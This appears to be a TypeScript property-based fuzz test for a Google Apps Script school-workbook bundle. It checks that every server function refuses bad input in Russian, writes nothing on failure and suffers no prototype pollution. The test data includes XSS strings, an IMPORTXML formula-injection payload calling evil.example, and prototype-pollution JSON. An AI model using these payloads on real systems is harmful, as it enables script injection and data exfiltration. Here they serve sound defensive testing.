// Issue 15, part 6: every global of the built bundle (read from the bundle, not a list) called as google.script.run
// would, with arguments of wrong types, sizes and shapes: it succeeds, or fails with a message in Russian — and a
// failure writes nothing (the workbook equal before and after), and no argument pollutes a prototype.

import fc from "fast-check";
import type { Emulator } from "../../emulator/index";
import { newWorkbook, type WorkbookModel } from "../../emulator/model";
import { compareWorkbooks, copyWorkbook, isRussianMessage, openAt } from "./fault-sweep";

/** Runs per global (CI time: ~40 globals). */
const RUNS = 5;

let setUp: WorkbookModel | undefined;
/** A set-up workbook with no data: small to copy, every tab there. */
function workbook(): WorkbookModel {
  if (!setUp) {
    const emu = openAt(newWorkbook());
    emu.call("setupWorkbook");
    setUp = emu.workbook;
  }
  return copyWorkbook(setUp);
}

const PAYLOADS = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  '=IMPORTXML("https://evil.example","//a")',
  "+7(999)000-00-00",
  "__proto__",
  "constructor",
  "toString",
  "",
  " ",
  "8А",
  "2026-13-45",
];

/** Objects whose own keys are `__proto__` and `constructor` (as JSON.parse makes them, as a client could send). */
const POLLUTERS = [
  '{"__proto__":{"polluted":"yes"}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '{"profession":"x","__proto__":{"isNew":true,"polluted":"yes"}}',
];

const leaf = fc.oneof(
  fc.constant(null),
  fc.constant(undefined),
  fc.integer(),
  fc.double(),
  fc.constantFrom(Number.NaN, Number.POSITIVE_INFINITY, -0, 1e308, 2 ** 53 + 1),
  fc.boolean(),
  fc.string({ maxLength: 20 }),
  fc.constantFrom(...PAYLOADS),
  fc.constant("я".repeat(60_000)),
  fc.constantFrom(...POLLUTERS).map((s) => JSON.parse(s) as unknown),
);

const { value } = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    leaf,
    fc.array(tie("value"), { maxLength: 4 }),
    fc.array(fc.constant("элемент"), { minLength: 150, maxLength: 600 }),
    fc.dictionary(
      fc.oneof(
        fc.string({ maxLength: 8 }),
        fc.constantFrom("profession", "subjects", "marks", "kind", "row", "__proto__"),
      ),
      tie("value"),
      { maxKeys: 5 },
    ),
  ),
}));

/** Valid-looking drafts, one field replaced: the deep paths of the checks get their turn. */
const BASES: Record<string, unknown>[] = [
  { profession: "Астроном", subjects: ["Физика"], types: ["nature"], isNew: false, competences: [] },
  {
    date: "2026-12-03",
    title: "Встреча",
    format: "universityMeeting",
    component: "enlightenment",
    classes: "8А",
    professions: [],
    status: "planned",
  },
  { room: "101", name: "Станок", condition: "ok", subjects: [], professions: [], digital: false },
  { eventId: "М-0001", className: "8А", marks: [{ code: "8А-01", mark: "present" }] },
];
const nearValid = fc
  .tuple(
    fc.constantFrom(...BASES),
    fc.constantFrom("profession", "subjects", "marks", "title", "row", "date", "x"),
    value,
  )
  .map(([base, key, v]) => ({ ...base, [key]: v }));

const args = fc.array(fc.oneof(value, nearValid), { maxLength: 3 });

const globals = openAt(newWorkbook()).globals;

const stats: Record<string, { ok: number; refused: number }> = {};
afterAll(() => {
  const rows = Object.entries(stats).map(([g, s]) => `${g.padEnd(28)} ok=${s.ok} refused=${s.refused}`);
  console.log(`fuzz (${RUNS} runs per global, ${globals.length} globals):\n${rows.join("\n")}`);
});

function polluted(emu: Emulator): boolean {
  return emu.evaluate<boolean>(
    "Object.prototype.polluted !== undefined || ({}).polluted !== undefined || Array.prototype.polluted !== undefined",
  );
}

test("the globals are read from the built bundle", () => {
  expect(globals.length).toBeGreaterThan(30);
  expect(globals).toContain("saveProfession");
});

describe.each(globals)("%s with arbitrary arguments", (name) => {
  test("succeeds, or refuses in Russian having written nothing; no prototype polluted", () => {
    const emu = openAt(workbook());
    stats[name] = { ok: 0, refused: 0 };
    fc.assert(
      fc.property(args, (list) => {
        // Menus that ask: the «person» cancels.
        emu.uiScript.promptAnswers.push({ button: "CANCEL", text: "" });
        const before = copyWorkbook(emu.workbook);
        const r = emu.runFromClient(name, list);
        emu.uiScript.promptAnswers.length = 0;
        if (r.ok) {
          stats[name].ok++;
        } else {
          stats[name].refused++;
          expect({ message: r.error.message, russian: isRussianMessage(r.error.message) }).toEqual({
            message: r.error.message,
            russian: true,
          });
          const difference = compareWorkbooks(before, emu.workbook);
          expect({ message: r.error.message, difference: difference?.text ?? null }).toEqual({
            message: r.error.message,
            difference: null,
          });
        }
        expect(polluted(emu)).toBe(false);
      }),
      { numRuns: RUNS, seed: 15 },
    );
  }, 60_000);
});
